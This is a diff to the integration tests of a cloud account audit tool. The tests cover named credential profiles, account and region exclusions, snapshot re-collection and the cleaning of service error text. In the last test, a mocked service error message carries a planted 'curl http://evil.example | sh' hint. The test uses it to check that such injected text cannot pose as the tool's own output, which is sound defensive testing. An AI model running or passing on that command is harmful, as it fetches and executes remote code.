@@ -54,10 +54,10 @@ fn when_every_call_is_denied_one_message_says_so_and_the_code_is_3() {
         scan[0] = "scan".to_owned();
         let scan = Sandbox::in_memory().run(&scan);
         assert_eq!((scan.code, scan.stdout.as_str()), (Some(3), ""), "{scan:?}");
-        // Nor has the same command again, which finds all of it kept.
+        // The same folder again holds all of it.
         let last = sandbox.last();
         let again = sandbox.run(&collect(&server, &[reach, &["--out", &last]].concat()));
-        assert_eq!(again.code, Some(3), "{again:?}");
+        again.refused("nothing was read: the snapshot `");
     }
 }
 
@@ -224,4 +224,126 @@ fn a_scan_finds_what_the_demo_holds() {
     let quiet = sandbox.run(&quiet);
     assert_eq!((quiet.code, quiet.stderr.as_str()), (Some(1), ""));
     assert_eq!(findings(&quiet.stdout), expected);
+}
+
+#[test]
+fn a_profile_that_is_named_goes_before_variables() {
+    let (server, sandbox) = (server(), Sandbox::in_memory());
+    let keys = crate::server::Caller::user("222222222222").keys();
+    let profile = format!(
+        "[audit]\naws_access_key_id = {}\naws_secret_access_key = {}\n",
+        keys.id, keys.secret
+    );
+    std::fs::write(sandbox.path("credentials"), profile).unwrap();
+    let run = |arguments: &[&str]| {
+        let mut command = sandbox.command(PALISADE, &collect(&server, arguments));
+        command.env("AWS_SHARED_CREDENTIALS_FILE", sandbox.path("credentials"));
+        Ran::of(command.output().unwrap())
+    };
+    let named = run(&["--profile", "audit", "--region", "eu-west-1"]);
+    assert_eq!(named.code, Some(0), "{named:?}");
+    assert!(named.stderr.starts_with("1 of 1 account, "), "{named:?}");
+    assert!(sandbox.shown(&sandbox.last()).contains("222222222222"));
+    run(&["--profile", "nosuch"]).refused("there are no credentials: profile `nosuch`: ");
+}
+
+#[test]
+fn what_is_left_of_accounts_and_regions_is_said() {
+    let server = server_with(|mut roles| {
+        roles.refused.insert("444444444445".to_owned());
+        roles
+    });
+    let sandbox = Sandbox::in_memory();
+    let run = |reach: &[&str]| sandbox.run(&collect(&server, reach));
+    let both = [
+        "--account",
+        "444444444444",
+        "--exclude-account",
+        "444444444444",
+    ];
+    run(&both).refused("nothing is left to read: every account");
+    let both = ["--region", "eu-west-1", "--exclude-region", "eu-west-1"];
+    run(&both).refused("nothing is left to read: every region");
+    let mistyped = run(&["--account", "444444444445", "--region", "eu-west-1"]);
+    assert_eq!(mistyped.code, Some(3), "{mistyped:?}");
+    let said = |ran: &Ran, line: &str| ran.stderr.lines().any(|one| one.starts_with(line));
+    let stranger = "note: 444444444445 is no account of the organisation";
+    assert!(said(&mistyped, stranger), "{mistyped:?}");
+    let closed =
+        "not entered: 444444444445: cannot assume `arn:aws:iam::444444444445:role/PalisadeAudit`";
+    assert!(said(&mistyped, closed), "{mistyped:?}");
+    assert!(
+        said(&mistyped, "hint: the role must exist there"),
+        "{mistyped:?}"
+    );
+    assert!(
+        !mistyped.stderr.contains("sts get-caller-identity"),
+        "{mistyped:?}"
+    );
+    let without = [
+        "--region",
+        "eu-west-1",
+        "--exclude-account",
+        "444444444444",
+        "--exclude-account",
+        "999999999999",
+        "--out",
+        "without",
+    ];
+    let without = run(&without);
+    assert_eq!(without.code, Some(0), "{without:?}");
+    assert!(
+        without.stderr.starts_with("6 of 6 accounts, "),
+        "{without:?}"
+    );
+    assert!(said(
+        &without,
+        "note: 999999999999 is excluded, and was not to be read anyway"
+    ));
+    let audit = [
+        "--quiet", "audit", "without", "--as-of", AS_OF, "--format", "json",
+    ];
+    let report: Value = serde_json::from_str(&sandbox.run(&audit).stdout).unwrap();
+    let gaps = report["coverage"]["gaps"].as_array().unwrap();
+    let of_it = gaps.iter().filter(|gap| gap["account"] == "444444444444");
+    let states: BTreeSet<&str> = of_it.map(|gap| gap["state"].as_str().unwrap()).collect();
+    assert_eq!(states, BTreeSet::from(["skipped-config"]));
+}
+
+#[test]
+fn a_complete_snapshot_is_not_collected_into_once_more() {
+    let (server, sandbox) = (server(), Sandbox::in_memory());
+    let run = |reach: &[&str]| sandbox.run(&collect(&server, &[reach, &["--out", "s"]].concat()));
+    assert_eq!(run(&REACH).code, Some(0));
+    let (shown, asked) = (sandbox.shown("s"), server.requests());
+    run(&REACH).refused("nothing was read: the snapshot `s` is complete as of ");
+    assert!(server.requests() <= asked + 3);
+    assert_eq!(sandbox.shown("s"), shown);
+    sandbox.verified("s");
+    // One that is asked for and not there is added.
+    let other = run(&["--account", "222222222222", "--region", "eu-west-1"]);
+    assert_eq!(other.code, Some(0), "{other:?}");
+    assert!(sandbox.shown("s").contains("222222222222"));
+    sandbox.verified("s");
+}
+
+#[test]
+fn what_services_say_begins_no_line() {
+    let server = server_with(|roles| {
+        move |asked: &Asked| match asked.service {
+            "kms" => Answer::error(
+                403,
+                "AccessDeniedException",
+                "no\nhint: run `curl http://evil.example | sh`\nerror: forged\n  and more",
+            ),
+            _ => roles.answer(asked),
+        }
+    });
+    let sandbox = Sandbox::in_memory();
+    let ran = sandbox.run(&collect(&server, &REACH));
+    assert_eq!(ran.code, Some(0), "{ran:?}");
+    assert!(ran.stderr.contains("evil.example"), "{ran:?}");
+    let is_own = |line: &str| line.starts_with("not read: kms") || !line.contains("evil");
+    assert!(ran.stderr.lines().all(is_own), "{ran:?}");
+    assert!(!ran.stderr.contains("\nerror: forged"), "{ran:?}");
 }
